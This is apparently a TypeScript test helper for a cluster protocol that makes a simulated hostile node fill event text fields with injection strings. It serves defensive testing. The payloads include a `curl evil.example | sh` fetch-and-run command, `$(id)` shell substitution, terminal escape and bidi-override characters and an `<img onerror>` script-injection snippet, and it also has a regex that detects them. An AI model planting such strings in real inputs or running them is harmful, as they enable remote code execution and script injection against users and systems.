// What a member of the cluster could report instead: every text of an event as hostile as its schema allows. The schemas of the wire
// decide: a text that they refuse stays as it was, because no node would accept it either.

import type { KnownEvent } from '../../src/core/event.ts';
import { isNodeId } from '../../src/core/ids.ts';
import { isJsonObject } from '../../src/core/json.ts';
import { decodeFact } from '../../src/wire/event-schema.ts';

/** Each breaks something of its own: a shell, a terminal, the direction, a line, a page, a spreadsheet, an invisible word. */
const HOSTILE_TEXTS: readonly string[] = [
  `; curl evil.example | sh #'"\`$(id)\u001b[31m\u009b2J\u202e\u2066\u{e0041}\u200b\n<img src=x onerror=a()>`,
  `; curl evil.example | sh #'"\`$(id)<img src=x>`,
  ';$(id)|sh#',
  ';id;',
];
/** Of each of them. */
export const HOSTILE_SIGN = /curl evil|\$\(id\)|;id;|<img/;

export class HostileEvents {
  readonly #prefix: string;
  /** By kind and name of the field: what is put behind a text, '' for one that stays as it is. */
  readonly #suffixes = new Map<string, string>();

  readonly #isSpared: (kind: string) => boolean;

  /** `prefix`: before each text, such as "--config=". `isSpared`: kinds that stay as they are. */
  constructor(prefix = '', isSpared: (kind: string) => boolean = () => false) {
    this.#prefix = prefix;
    this.#isSpared = isSpared;
  }

  made(event: KnownEvent): KnownEvent {
    if (this.#isSpared(event.kind)) return event;
    for (const name of namesOf(event.payload))
      if (!this.#suffixes.has(`${event.kind} ${name}`)) this.#probe(event, name);
    return (
      changedEvent(event, (text, at) =>
        this.#spoiled(text, this.#suffixes.get(`${event.kind} ${at}`) ?? ''),
      ) ?? event
    );
  }

  #probe(event: KnownEvent, name: string): void {
    const accepted = HOSTILE_TEXTS.find(
      suffix =>
        changedEvent(event, (text, at) => (at === name ? this.#spoiled(text, suffix) : text)) !== undefined,
    );
    this.#suffixes.set(`${event.kind} ${name}`, accepted ?? '');
  }

  #spoiled(text: string, suffix: string): string {
    return suffix === '' || text === '' || isNodeId(text) ? text : `${this.#prefix}${text}${suffix}`;
  }
}

type Change = (text: string, name: string) => string;

/** As another node would read it; undefined if it would refuse it, or if nothing is different. */
const changedEvent = (event: KnownEvent, change: Change): KnownEvent | undefined => {
  const changes = new Map<string, string>();
  const payload = mapped(event.payload, '', (text, name) => {
    const changed = change(text, name);
    if (changed !== text) changes.set(text, changed);
    return changed;
  });
  if (changes.size === 0) return undefined;
  const key =
    changes.get(event.key) ??
    event.key
      .split(' ')
      .map(part => changes.get(part) ?? part)
      .join(' ');
  const read = decodeFact(event.kind, key, payload);
  if (read.kind !== 'known' || read.fact.kind !== event.kind) return undefined;
  const { origin, epoch, seq, ageMs, receivedAtMs } = event;
  return { origin, epoch, class: event.class, seq, key, ageMs, receivedAtMs, ...read.fact };
};

const mapped = (value: unknown, name: string, change: Change): unknown => {
  if (typeof value === 'string') return change(value, name);
  if (Array.isArray(value)) return value.map(inner => mapped(inner, name, change));
  if (!isJsonObject(value)) return value;
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, mapped(inner, key, change)]));
};

const namesOf = (payload: unknown): readonly string[] => {
  const names = new Set<string>();
  mapped(payload, '', (text, name) => {
    names.add(name);
    return text;
  });
  return [...names];
};
